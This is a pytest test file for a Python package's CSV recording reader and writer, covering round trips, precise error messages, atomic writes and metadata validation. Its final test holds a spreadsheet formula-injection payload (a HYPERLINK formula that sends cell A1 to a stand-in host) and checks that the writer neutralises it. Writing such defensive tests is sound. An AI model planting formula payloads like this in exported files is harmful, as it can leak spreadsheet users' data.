"""The recording format: round trip, errors that name file/line/column, atomic writes."""

import re

import numpy as np
import pytest

from tapmuscle.io.recording import Recording, RecordingError, read_recording, write_recording


def _rec(n=5):
    t = np.arange(n) * 0.1
    return Recording({"t_s": t, "u_v": 5 + t, "l_mm": 2 * t, "p_mpa": 0.1 + 0 * t}, {"ts_s": "0.1", "load_n": "44"})


def test_round_trip(tmp_path):
    path = tmp_path / "r.csv"
    write_recording(path, _rec())
    back = read_recording(path)
    assert back.metadata["load_n"] == "44" and back.ts_s == pytest.approx(0.1)
    for k in ("t_s", "u_v", "l_mm", "p_mpa"):
        np.testing.assert_allclose(back.columns[k], _rec().columns[k], atol=1e-6)


def test_reads_a_hand_written_file_with_extra_columns(tmp_path):
    path = tmp_path / "rig.csv"
    path.write_text("# from the real rig\n# ts_s: 0.05\nt_s, u_v, l_mm, temp_c\n0,1,2,20\n0.05,1,2.5,20\n")
    rec = read_recording(path)
    assert rec.ts_s == 0.05 and list(rec.l_mm) == [2.0, 2.5] and "temp_c" in rec.columns
    assert rec.lines.tolist() == [4, 5]  # each sample's line in the file


def test_the_lines_of_a_recording_are_one_per_sample():
    assert Recording({"t_s": [0.0, 0.1], "u_v": [1, 1], "l_mm": [0, 0]}).lines is None  # made in memory
    with pytest.raises(RecordingError, match=r"recording lines has shape \(3,\): one file line per sample \(2\)"):
        Recording({"t_s": [0.0, 0.1], "u_v": [1, 1], "l_mm": [0, 0]}, lines=[3, 4, 5])


@pytest.mark.parametrize("body, match", [
    ("t_s,u_v\n0,1\n", r"line 1: header has no 'l_mm'"),
    ("t_s;u_v;l_mm\n0;1;2\n", r"line 1: header has no 't_s' column .*one field: separated by ';' or tabs\? `tapmuscle import`"),
    ("time,valve,pos\n0,1,2\n", r"header has no 't_s' column .*found: time, valve, pos\); a logger's file\? `tapmuscle import`"),
    ("t_s,u_v,l_mm\n0,1,2\n0.1,1,abc\n", r"line 3, column 'l_mm': 'abc' is not a number"),
    ("t_s,u_v,l_mm\n0,1,2\n0.1,nan,2\n", r"line 3, column 'u_v': 'nan' is not finite"),
    ("t_s,u_v,l_mm\n0,1,2\n0.1,1\n", r"line 3: 2 fields, header has 3"),
    # a row with a field too many is refused too, not cut to the header's length
    ("t_s,u_v,l_mm\n0,1,2,9\n", r"line 2: 4 fields, header has 3"),
    # a logger's decimal commas in a comma-separated file
    ("t_s,u_v,l_mm\n0,1,68519,0\n0,05,1,68519,0,01\n", r"line 2: 4 fields, header has 3 \(decimal commas in a "
                                                       r"comma-separated file\? tapmuscle import reads"),
    ("t_s,u_v,l_mm\n0.1,1.5,2.5,9.5\n", r"line 2: 4 fields, header has 3$"),
    ("# meta: x\nt_s,u_v,l_mm\n0,1,2\n0,1,2\n", r"line 4, column 't_s': time 0.0 does not increase"),
    ("t_s,u_v,l_mm,l_mm\n0,1,2,3\n", r"column 'l_mm' appears twice"),
    ("# only comments\n", r"no header row"),
    ("t_s,u_v,l_mm\n", r"no data rows"),
])
def test_malformed_files_name_line_and_column(tmp_path, body, match):
    path = tmp_path / "bad.csv"
    path.write_text(body)
    with pytest.raises(RecordingError, match=match) as info:
        read_recording(path)
    assert str(path) in str(info.value)


def test_missing_file_is_named(tmp_path):
    with pytest.raises(RecordingError, match="no such recording file"):
        read_recording(tmp_path / "nope.csv")


def test_non_finite_data_is_refused_and_the_old_file_survives(tmp_path):
    path = tmp_path / "r.csv"
    write_recording(path, _rec())
    before = path.read_text()
    bad = _rec()
    bad.columns["l_mm"][3] = np.nan
    with pytest.raises(RecordingError, match=r"'l_mm' row 4"):
        write_recording(path, bad)
    assert path.read_text() == before
    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]  # no temporary file left behind


def test_a_byte_order_mark_is_not_part_of_the_first_column(tmp_path):
    """Spreadsheet exports start with a UTF-8 BOM; it must not make the header's first name '\\ufefft_s'."""
    path = tmp_path / "bom.csv"
    path.write_bytes("\ufefft_s,u_v,l_mm\n0,1,2\n0.1,1,2.5\n".encode("utf-8"))
    rec = read_recording(path)
    assert list(rec.columns) == ["t_s", "u_v", "l_mm"] and rec.l_mm.tolist() == [2.0, 2.5]


@pytest.mark.parametrize("t0, ts, n", [(0.0, 0.005, 200_030),    # 1 kHz-class sampling past 1000 s
                                       (1.7e9, 0.001, 50),         # epoch time stamps, 1 ms apart
                                       (1e4, 0.05, 30)])
def test_times_stay_distinct_and_uniform_when_written(tmp_path, t0, ts, n):
    """Every time stamp is written with the digits it needs: the file reads back uniform."""
    t = t0 + np.arange(n) * ts
    rec = Recording({"t_s": t, "u_v": np.full(n, 5.0), "l_mm": np.zeros(n)}, {"ts_s": repr(ts)})
    write_recording(tmp_path / "r.csv", rec)
    back = read_recording(tmp_path / "r.csv")
    np.testing.assert_allclose(back.t_s, t, rtol=0, atol=1e-9 * max(1.0, abs(t0)))
    assert back.ts_s == pytest.approx(ts)


def test_ordinary_times_are_written_without_last_bit_noise(tmp_path):
    write_recording(tmp_path / "r.csv", _rec(4))
    rows = (tmp_path / "r.csv").read_text().splitlines()[-4:]
    assert [r.split(",")[0] for r in rows] == ["0", "0.1", "0.2", "0.3"]  # 3 * 0.1 is 0.30000000000000004


def test_a_load_is_written_as_given(tmp_path):
    rec = _rec(3)
    rec.columns["load_n"] = np.full(3, 123.456)
    write_recording(tmp_path / "r.csv", rec)
    assert np.all(read_recording(tmp_path / "r.csv").columns["load_n"] == 123.456)


@pytest.mark.parametrize("change, match", [
    (lambda r: r.columns.update({"T_water,C": r.l_mm}), "column name 'T_water,C'"),
    (lambda r: r.metadata.update({"a:b": "1"}), "metadata key 'a:b'"),
    (lambda r: r.columns.update({"t_s": r.t_s[::-1].copy()}), r"column 't_s' row 2 is 0\.3\d*, not after row 1's 0\.4"),
])
def test_what_could_not_be_read_back_is_not_written(tmp_path, change, match):
    path = tmp_path / "r.csv"
    path.write_text("old\n")
    rec = _rec()
    change(rec)
    with pytest.raises(RecordingError, match=match):
        write_recording(path, rec)
    assert path.read_text() == "old\n"


def test_a_line_break_in_a_metadata_value_becomes_a_space(tmp_path):
    rec = _rec()
    rec.metadata["note"] = "rig A\rrun 3\nday 2"
    write_recording(tmp_path / "r.csv", rec)
    assert read_recording(tmp_path / "r.csv").metadata["note"] == "rig A run 3 day 2"


@pytest.mark.parametrize("text, load", [(None, None), ("68", 68.0)])
def test_the_load_comes_from_the_column_else_the_header(text, load):
    rec = _rec()
    del rec.metadata["load_n"]
    if text is not None:
        rec.metadata["load_n"] = text
    got = rec.load_n
    assert got is None if load is None else np.all(got == load) and got.shape == rec.t_s.shape
    rec.columns["load_n"] = np.full(len(rec), 44.0)
    assert np.all(rec.load_n == 44.0)  # the column wins


@pytest.mark.parametrize("text", ["abc", "nan", "-5", "900"])
def test_a_bad_load_header_is_named(text):
    rec = _rec()
    rec.metadata["load_n"] = text
    with pytest.raises(RecordingError, match=f"'# load_n: {text}'"):
        rec.load_n


def test_write_recording_takes_simulate_columns_and_refuses_what_readers_would(tmp_path):
    """``write_recording(path, tm.simulate(...))`` is the obvious first try (it must not raise AttributeError);
    a file the tools would refuse later (one row, a column vector, a missing column) is refused
    before anything is written."""
    import tapmuscle as tm

    cols = tm.simulate("sine:bias=5,amp=3,freq=0.1", duration_s=5.0)
    write_recording(tmp_path / "a.csv", cols)
    back = read_recording(tmp_path / "a.csv")
    # the file holds l to 4 decimals, and the encoder reads multiples of 0.01 mm: equal up to float parsing
    assert np.allclose(back.l_mm, cols["l_mm"], rtol=0, atol=1e-9) and back.ts_s == pytest.approx(0.1)
    bad = {"one row": ({k: v[:1] for k, v in cols.items()}, "1 row(s); a recording needs at least 2 samples"),
           "column vector": ({**cols, "u_v": cols["u_v"][:, None]}, "column 'u_v' has shape (51, 1)"),
           "no l_mm": ({k: v for k, v in cols.items() if k != "l_mm"}, "no 'l_mm' column")}
    for name, (columns, message) in bad.items():
        target = tmp_path / f"{name}.csv"
        with pytest.raises(RecordingError, match=re.escape(message)):
            write_recording(target, columns)
        assert not target.exists(), name


def test_a_clock_that_changes_its_period_is_refused_on_reading_with_file_and_line(tmp_path):
    """Not later, when the sampling is first asked for, without the file's name."""
    t = np.concatenate([np.arange(0, 90.0, 0.1), 90.0 + np.arange(0, 30.0, 0.2)])
    path = tmp_path / "clock.csv"
    path.write_text("t_s,u_v,l_mm\n" + "".join(f"{x:.1f},5,1\n" for x in t))
    with pytest.raises(RecordingError, match=r"clock\.csv: column t_s, line 903 \(sample 901\): "):
        read_recording(path)
    path.write_text("# ts_s: 0.2\nt_s,u_v,l_mm\n" + "".join(f"{0.1 * k:.1f},5,1\n" for k in range(50)))
    with pytest.raises(RecordingError, match=r"clock\.csv, line 1: header '# ts_s: 0.2' contradicts the t_s column"):
        read_recording(path)


def test_a_header_value_from_elsewhere_makes_no_formula_in_a_spreadsheet(tmp_path):
    """A scenario named 'Rig A,=HYPERLINK(...)' goes into result.csv's header line, which a spreadsheet
    splits at the comma into a formula cell: that cell is text, and the value reads back as written."""
    import numpy as np

    from tapmuscle.io.recording import Recording, read_recording, write_recording

    t = np.arange(3) * 0.1
    write_recording(tmp_path / "r.csv", Recording({"t_s": t, "u_v": t, "l_mm": t},
                                                  {"scenario": 'Rig A,=HYPERLINK("http://x/?"&A1)'}))
    assert '# scenario: Rig A,\'=HYPERLINK("http://x/?"&A1)\n' in (tmp_path / "r.csv").read_text()
    assert read_recording(tmp_path / "r.csv").metadata["scenario"] == 'Rig A,\'=HYPERLINK("http://x/?"&A1)'
